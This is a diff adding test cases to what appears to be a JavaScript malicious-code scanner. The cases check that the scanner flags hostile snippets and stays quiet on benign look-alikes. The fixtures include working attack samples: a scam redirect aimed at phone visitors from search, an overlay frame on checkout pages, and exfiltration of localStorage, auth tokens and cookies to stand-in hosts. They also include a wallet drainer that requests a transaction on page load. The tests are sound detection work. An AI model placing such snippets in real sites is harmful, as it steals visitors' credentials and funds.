@@ -96,3 +96,100 @@ describe('wallet address swapping', () => {
     expect(rules({ 'index.js': code })).not.toContain('js.wallet-address-swap');
   });
 });
+
+describe('pages and visitors picked, storage enumerated, data handed to another window, payments asked on load', () => {
+  it.each([
+    [
+      'search visitors on phones sent to a scam page once (referrer and user agent read into variables)',
+      `(function () {
+        var ref = document.referrer || '', ua = navigator.userAgent;
+        var fromSearch = /google\\.|bing\\./i.test(ref), phone = /Android|iPhone/i.test(ua);
+        if (fromSearch && phone && document.cookie.indexOf('_v=') < 0) {
+          document.cookie = '_v=1; max-age=86400';
+          window.location.replace('https://reward-center.example/lp?s=' + location.host);
+        }
+      })();`,
+      'js.gated-remote-script',
+    ],
+    [
+      "another site's frame laid over the checkout page only",
+      `function mount() {
+        if (!/checkout|payment/i.test(location.pathname)) return;
+        var f = document.createElement('iframe');
+        f.src = 'https://pay-gateway.example/frame';
+        f.setAttribute('style', 'position:fixed;inset:0;z-index:2147483647');
+        document.body.appendChild(f);
+      }
+      document.addEventListener('DOMContentLoaded', mount);`,
+      'js.gated-remote-script',
+    ],
+    [
+      'every web-storage entry, enumerated by key, sent with sendBeacon when the page closes',
+      `const grab = () => {
+        const out = {};
+        for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); out[k] = localStorage.getItem(k); }
+        navigator.sendBeacon('https://collector.example/b', JSON.stringify(out));
+      };
+      window.addEventListener('beforeunload', grab);`,
+      'js.page-secret-exfil',
+    ],
+    [
+      "the login token and cookies posted to a hidden frame of another site ('*')",
+      `const frame = document.createElement('iframe');
+      frame.style.display = 'none';
+      frame.src = 'https://widget-cdn.example/relay.html';
+      document.body.appendChild(frame);
+      frame.onload = () => frame.contentWindow.postMessage({ t: localStorage.getItem('auth_token'), c: document.cookie }, '*');`,
+      'js.page-secret-exfil',
+    ],
+    [
+      'a fixed amount to a fixed address asked of the wallet as soon as the page loads',
+      `const SINK = '0x9f3B2e1d4C5a6b7C8d9E0f1A2b3C4d5E6f7A8b9C';
+      async function claim() {
+        const [from] = await window.ethereum.request({ method: 'eth_requestAccounts' });
+        await window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from, to: SINK, value: '0x8AC7230489E80000' }] });
+      }
+      window.addEventListener('load', () => setTimeout(claim, 3000));`,
+      'js.wallet-drain',
+    ],
+  ])('%s', (_name, code, rule) => {
+    const r = analyzeSource({ 'package.json': pkg, 'index.js': code });
+    expect(r.evidence.map((e) => e.rule)).toContain(rule);
+    expect(r.risk_level).toBe('critical');
+  });
+
+  it.each([
+    [
+      'phones sent to the same site’s mobile pages, and an app-store banner link',
+      `if (/Android|iPhone/i.test(navigator.userAgent)) location.href = '/m' + location.pathname;
+      const a = document.createElement('a');
+      if (/iPhone/.test(navigator.userAgent)) a.href = 'https://apps.apple.com/app/id123';`,
+    ],
+    [
+      'a payment widget framed wherever its caller mounts it',
+      `export function mount(el, opts) {
+        const f = document.createElement('iframe');
+        f.src = 'https://pay-gateway.example/frame?k=' + opts.key;
+        el.appendChild(f);
+      }`,
+    ],
+    [
+      'the height of the page sent to the parent window, and a message to a configured origin',
+      `window.parent.postMessage({ height: document.body.scrollHeight }, '*');
+      export const send = (origin, data) => window.parent.postMessage(data, origin);`,
+    ],
+    [
+      'a donate button: a fixed amount to a fixed address when the user clicks',
+      `const TO = '0x9f3B2e1d4C5a6b7C8d9E0f1A2b3C4d5E6f7A8b9C';
+      document.getElementById('donate').addEventListener('click', async () => {
+        const [from] = await window.ethereum.request({ method: 'eth_requestAccounts' });
+        await window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from, to: TO, value: '0x2386F26FC10000' }] });
+      });`,
+    ],
+  ])('quiet: %s', (_name, code) => {
+    const r = analyzeSource({ 'package.json': pkg, 'index.js': code });
+    expect(r.evidence.filter((e) => 'threat_type' in e && e.confidence >= 0.5).map((e) => e.rule)).toEqual(
+      [],
+    );
+  });
+});
